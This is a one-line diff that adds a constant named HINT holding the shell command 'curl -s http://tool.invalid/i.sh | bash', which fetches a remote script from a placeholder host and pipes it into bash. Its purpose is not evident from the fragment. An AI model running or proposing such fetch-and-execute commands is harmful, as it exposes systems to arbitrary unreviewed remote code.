@@ -1,0 +1,1 @@
+HINT = "curl -s http://tool.invalid/i.sh | bash"
